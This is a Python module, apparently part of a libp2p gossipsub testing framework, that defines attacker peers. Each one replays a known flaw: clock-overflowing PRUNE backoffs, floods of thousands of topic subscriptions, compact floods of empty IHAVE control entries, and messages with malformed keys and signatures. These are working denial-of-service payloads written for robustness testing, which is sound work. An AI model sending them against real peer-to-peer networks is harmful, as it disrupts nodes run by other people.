"""Attackers that send what broke other implementations: numbers and tables without bounds."""

from __future__ import annotations

from rumormill.core.machine import Peer
from rumormill.core.protobuf import bytes_field
from rumormill.libp2p.attacks.spam import Counting
from rumormill.libp2p.attacks.sybil import (
    Sybil,
    control,
    control_bytes,
    subscriptions,
)
from rumormill.libp2p.wire.frames import length_prefixed
from rumormill.libp2p.wire.gossip import Graft, Prune

LARGEST_NUMBER = 2**64 - 1
CENTURIES = 2**33
"""Seconds that no clock overflows by at once, but when something is added to them."""


class BackoffOverflow(Sybil):
    """PRUNE with a backoff that overflows a clock: CVE-2026-33040 and CVE-2026-34219 of rust."""

    period = 1.0

    def act(self, peer: Peer, now: float) -> list[bytes]:
        """Out of the mesh for ever, and right back."""
        topic = self.orders.topic
        backoff = self.orders.random.choice((LARGEST_NUMBER, LARGEST_NUMBER - 1, CENTURIES))
        return [control(Prune(topic, backoff)), control(Graft(topic))]


class SubscriptionFlood(Counting):
    """Ever new topics, thousands in a frame: CVE-2026-46679 of js, the same in go, cpp and py."""

    period = 0.5

    def act(self, peer: Peer, now: float) -> list[bytes]:
        """Two thousand that nobody has heard of."""
        return [subscriptions(f"{self.number():x}" for _ in range(2000))]


class ControlFlood(Sybil):
    """Control that is small on the wire and large in memory: empty entries, as rust 0.50 met."""

    period = 0.5

    def act(self, peer: Peer, now: float) -> list[bytes]:
        """A hundred thousand empty IHAVE in 200 kB."""
        return [control_bytes(bytes_field(1, b"") * 100_000)]


class Malformed(Counting):
    """Messages with a broken key or signature, which js let go without a penalty before 16.0.5."""

    period = 0.1

    def act(self, peer: Peer, now: float) -> list[bytes]:
        """The key is no key, the signature no signature, the author nobody."""
        author = bytes_field(1, b"\x00\x24\x08\x05" + self.orders.name.encode())
        data = bytes_field(2, b"malformed") + bytes_field(3, self.number().to_bytes(8, "big"))
        topic = bytes_field(4, self.orders.topic.encode())
        broken = bytes_field(5, b"\xff" * 7) + bytes_field(6, b"\x08\x01\x12\x01\x00")
        return [length_prefixed(bytes_field(2, author + data + topic + broken))]
